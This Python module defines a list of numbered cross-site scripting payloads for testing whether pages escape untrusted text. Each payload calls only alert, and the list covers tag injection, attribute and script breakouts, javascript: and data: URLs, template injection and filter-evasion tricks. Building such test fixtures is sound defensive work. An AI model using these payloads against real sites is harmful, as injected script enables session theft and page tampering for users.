"""Strings of our own making that run a script wherever a page forgets to escape them.

Each calls ``alert`` with its number, so that a test knows which one ran. They stand for the places
where text can land: between tags, in an attribute, in a script, in a style, in an address, in a
template, in SVG; and for the ways filters are got round: case, odd white space, entities, nesting.
"""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_BETWEEN_TAGS = [
    "<script>alert({n})</script>",
    "<SCRIPT>alert({n})</SCRIPT>",
    "<script\n>alert({n})</script\n>",
    "<script/x>alert({n})</script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<script>alert({n})//",
    "<script src=data:text/javascript,alert({n})></script>",
    "<script type=module>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    "<IMG SRC=x ONERROR=alert({n})>",
    "<img src=x onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><a href='javascript:alert({n})'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=alert({n}) attributeName=x>",
    "<svg><foreignObject><img src=x onerror=alert({n})></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert({n})></mtext></math>",
    "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=javascript:alert({n})>",
    "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})></select>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href='javascript:alert({n})//'>",
    "<link rel=stylesheet href='javascript:alert({n})'>",
    "<style>@import 'javascript:alert({n})';</style>",
    "<form action=javascript:alert({n})><button autofocus>x</button></form>",
    "<template><img src=x onerror=alert({n})></template><noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<![CDATA[<img src=x onerror=alert({n})>]]>",
    "<?xml-stylesheet href='javascript:alert({n})'?>",
]
_OUT_OF_SOMETHING = [
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    "></title><script>alert({n})</script>",
    "</textarea><img src=x onerror=alert({n})>",
    "</style><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</a></svg><img src=x onerror=alert({n})>",
    "]]></text><script>alert({n})</script>",
    "--><script>alert({n})</script>",
    '" onmouseover="alert({n})" x="',
    "' autofocus onfocus='alert({n})' x='",
    '" autofocus onfocus=alert({n}) "',
    "`-alert({n})-`",
    '";alert({n});//',
    "';alert({n});//",
    "\\';alert({n});//",
    "\\u0022;alert({n});//",
    "</script\u2028><script>alert({n})</script>",
]
_ADDRESSES_AND_TEMPLATES = [
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "\tjavascript:alert({n})",
    "java\nscript:alert({n})",
    "javascript://%0aalert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "//127.0.0.1:1/x.js?{n}",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    "{{% raw %}}<script>alert({n})</script>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "＜script＞alert({n})＜/script＞",
    "\u202e<img src=x onerror=alert({n})>",
    "[x](javascript:alert({n}))",
    "expression(alert({n}))",
]
PAYLOADS = [
    text.format(n=number) for number, text in enumerate([*_BETWEEN_TAGS, *_OUT_OF_SOMETHING, *_ADDRESSES_AND_TEMPLATES])
]
